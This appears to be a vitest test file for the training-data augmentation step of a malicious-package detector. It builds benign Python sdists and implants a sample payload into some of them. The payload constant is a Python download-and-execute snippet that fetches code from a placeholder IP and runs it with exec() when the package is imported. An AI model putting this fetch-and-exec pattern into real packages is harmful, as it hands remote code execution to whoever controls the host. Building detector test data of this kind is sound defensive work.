// train/augment.ts: implants and cuts built from synthetic corpus rows (never from the real corpus).
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { extractFeatures, initFeatures } from '../../src/features/index.js';
import { readArchive } from '../../src/archive/index.js';
import { augmentRows } from '../../train/augment.js';
import type { FeatureRow } from '../../train/table.js';
import { makeSdist } from '../fixtures/archives.js';

const dir = mkdtempSync(join(tmpdir(), 'pmg-augment-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));
beforeAll(() => initFeatures());

/** A benign project big enough to host an implant (20+ files, a package with __init__.py). */
function project(i: number): Buffer {
  const files: Record<string, string> = {
    [`proj${i}/__init__.py`]: `from .m0 import f0\n__version__ = "1.${i}"\n`,
  };
  for (let k = 0; k < 24; k++) files[`proj${i}/m${k}.py`] = `def f${k}(x):\n    return x * ${k}\n`;
  files['tests/test_m0.py'] = 'def test_f0():\n    assert True\n';
  return makeSdist({ name: `proj${i}`, version: `1.${i}`, files });
}

const PAYLOAD =
  'import os, urllib.request\ndef go():\n    code = urllib.request.urlopen("http://203.0.113.9/x").read()\n    exec(code)\ngo()\n';

async function row(path: string, bytes: Buffer, fields: Partial<FeatureRow>): Promise<FeatureRow> {
  writeFileSync(path, bytes);
  const a = extractFeatures(await readArchive(bytes));
  return {
    id: fields.name ?? path,
    label: 0,
    source: 'benign-sdist',
    group: `g:${fields.name}`,
    name: 'x',
    status: 'ok',
    features: a.features,
    tokens: a.tokens,
    evidence: a.evidence.filter((e) => e.severity !== 'low'),
    path,
    ...fields,
  };
}

describe('augmentRows', () => {
  it('implants payloads into benign projects and cuts others down, deterministically, with their parents', async () => {
    const rows: FeatureRow[] = [];
    for (let i = 0; i < 6; i++)
      rows.push(await row(join(dir, `proj${i}.tar.gz`), project(i), { name: `proj${i}`, id: `b${i}` }));
    for (let i = 0; i < 3; i++)
      rows.push(
        await row(
          join(dir, `evil${i}.tar.gz`),
          makeSdist({ name: `evil${i}`, version: '0.1', files: { [`evil${i}/__init__.py`]: PAYLOAD } }),
          {
            name: `evil${i}`,
            id: `m${i}`,
            label: 1,
            source: 'malicious',
            group: `fam${i}`,
            added: '2024-01-0' + (i + 1),
          },
        ),
      );
    const options = { implants: 3, cuts: 2, hosts: 2, seed: 7, cacheDir: join(dir, 'cache') };
    const out = await augmentRows(rows, options);
    const implants = out.filter((r) => r.source === 'malicious-implant');
    const cuts = out.filter((r) => r.source === 'benign-small');
    expect(implants).toHaveLength(3);
    expect(cuts).toHaveLength(2);
    for (const r of implants) {
      const parent = rows.find((p) => p.id === r.parent)!;
      expect(r).toMatchObject({ label: 1, group: parent.group, added: parent.added });
      expect(rows.find((p) => p.id === r.host)?.source).toBe('benign-sdist');
      // The implant keeps the payload's behaviour, now inside the host.
      expect(r.evidence?.some((e) => e.rule === 'download-and-execute' && !e.path.startsWith('evil'))).toBe(
        true,
      );
      expect(r.features['parse.unparsed_files']).toBe(0);
      expect(Object.keys(r.tokens).length).toBeGreaterThan(0);
    }
    for (const r of cuts) {
      expect(r).toMatchObject({ label: 0, group: rows.find((p) => p.id === r.parent)!.group });
      expect(r.features['files.py_count']).toBeLessThan(5);
    }
    // No project is both a host and a cut.
    const hosts = new Set(implants.map((r) => r.host));
    for (const r of cuts) expect(hosts.has(r.host)).toBe(false);
    // The same seed gives the same rows (read back from the cache, and rebuilt without it).
    expect(await augmentRows(rows, options)).toEqual(out);
    expect(await augmentRows(rows, { ...options, cacheDir: join(dir, 'cache2') })).toEqual(out);
  }, 60_000);
});
